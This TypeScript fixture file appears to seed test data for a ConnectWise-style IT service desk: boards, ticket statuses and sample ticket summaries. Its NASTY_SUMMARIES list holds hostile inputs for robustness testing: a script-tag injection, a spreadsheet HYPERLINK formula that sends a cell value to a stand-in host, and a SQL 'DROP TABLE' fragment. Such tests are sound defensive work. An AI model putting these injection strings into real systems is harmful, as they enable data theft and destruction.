/** A board before it has an id. */
export interface BoardPlan {
  readonly name: string
  readonly isProject: boolean
  readonly departmentRow: number
  /** Share of service tickets that arrive here. */
  readonly share: number
}

export interface StatusPlan {
  readonly name: string
  readonly isClosed: boolean
  readonly isInactive: boolean
  readonly escalation: 'NotResponded' | 'Responded' | 'ResolutionPlan' | 'Resolved' | 'NoEscalation'
}

/** What a ticket is about: its type and subtype, and how people word it. */
export interface Subject {
  readonly type: string
  readonly subType: string
  readonly summaries: readonly string[]
}

export const BOARDS: readonly BoardPlan[] = [
  { name: 'Help Desk', isProject: false, departmentRow: 0, share: 0.5 },
  { name: 'Escalations', isProject: false, departmentRow: 0, share: 0.1 },
  { name: 'Field Service', isProject: false, departmentRow: 0, share: 0.08 },
  { name: 'Monitoring Alerts', isProject: false, departmentRow: 0, share: 0.2 },
  { name: 'Proactive Maintenance', isProject: false, departmentRow: 0, share: 0.08 },
  { name: 'Internal IT', isProject: false, departmentRow: 4, share: 0.04 },
  { name: 'Projects', isProject: true, departmentRow: 1, share: 0 },
  { name: 'Client Onboarding', isProject: true, departmentRow: 1, share: 0 },
]

export const STATUSES: readonly StatusPlan[] = [
  { name: 'New', isClosed: false, isInactive: false, escalation: 'NotResponded' },
  { name: 'Assigned', isClosed: false, isInactive: false, escalation: 'Responded' },
  { name: 'In Progress', isClosed: false, isInactive: false, escalation: 'ResolutionPlan' },
  { name: 'Waiting on Client', isClosed: false, isInactive: false, escalation: 'NoEscalation' },
  { name: 'Waiting on Vendor', isClosed: false, isInactive: false, escalation: 'NoEscalation' },
  { name: 'Completed', isClosed: false, isInactive: false, escalation: 'Resolved' },
  { name: '>Closed', isClosed: true, isInactive: false, escalation: 'Resolved' },
  { name: '>Cancelled', isClosed: true, isInactive: false, escalation: 'NoEscalation' },
]

export const ITEMS = ['Add / Change', 'Break / Fix', 'How-to', 'Outage'] as const

/** Subject 5 is what monitoring raises, 6 is planned maintenance. */
export const SUBJECTS: readonly Subject[] = [
  {
    type: 'Email',
    subType: 'Microsoft 365',
    summaries: [
      'Outlook keeps asking for the password',
      'Shared mailbox missing after update',
      'Cannot send to one supplier, message bounces',
      'Phishing mail reported by several users',
      'Calendar invitations arrive twice',
    ],
  },
  {
    type: 'Workstation',
    subType: 'Desktop',
    summaries: [
      'PC very slow since this morning',
      'Second monitor not detected after docking',
      'Blue screen twice today',
      'Set up new workstation for new hire',
      'Replace failing laptop battery',
    ],
  },
  {
    type: 'Application',
    subType: 'Line of Business',
    summaries: [
      'QuickBooks company file will not open',
      'Error when posting month end in the ERP',
      'Practice software cannot reach its server',
      'License expired on CAD workstation',
      'PDF editor crashes on save',
    ],
  },
  {
    type: 'Network',
    subType: 'Connectivity',
    summaries: [
      'Internet down at the main site',
      'Wi-Fi drops in the conference room',
      'VPN disconnects every few minutes',
      'Phones have one-way audio',
      'Printer offline for the whole floor',
    ],
  },
  {
    type: 'User Administration',
    subType: 'Accounts',
    summaries: [
      'New employee starts Monday',
      'Please disable account, employee left',
      'Locked out after password change',
      'Needs access to the finance folder',
      'Reset multi-factor after new phone',
    ],
  },
  {
    type: 'Monitoring',
    subType: 'Alert',
    summaries: [
      'Disk space below 10 percent',
      'Backup job finished with errors',
      'Server offline',
      'Antivirus definitions out of date',
      'Certificate expires in 14 days',
    ],
  },
  {
    type: 'Maintenance',
    subType: 'Scheduled',
    summaries: [
      'Monthly server patching',
      'Quarterly backup restore test',
      'Firewall firmware review',
      'Annual network assessment visit',
      'Review of stale accounts',
    ],
  },
  {
    type: 'Security',
    subType: 'Incident',
    summaries: [
      'Suspicious sign-in from abroad',
      'User clicked a link in a fake invoice',
      'Endpoint isolated after detection',
      'Request to allow a blocked site',
      'Vulnerability scan findings',
    ],
  },
]

/** Subjects that arrive from the wild and must survive every step: markup, formulas, marks, length. */
export const NASTY_SUMMARIES: readonly string[] = [
  '<b>URGENT</b> <script>alert("printer")</script> please call back',
  '=HYPERLINK("http://example.test/?x="&A1,"Click to confirm")',
  '🔥🔥 Server room is 35 °C – bitte dringend! 日本語のメール',
  `He said "it's broken", then 'it's fine'; DROP TABLE tickets;--`,
  '\u200eRE: FW: RE: your ticket\u200e',
  '+1 312 555 0100 called about @scan folder',
  'Ünïcödé – naïve café résumé ﬁle won’t open…',
]

/** 100 characters, ConnectWise's limit for a summary. */
export const LONGEST_SUMMARY =
  'Please see the whole thread below before you answer because it has changed again and nobody told us.'.slice(
    0,
    100,
  )
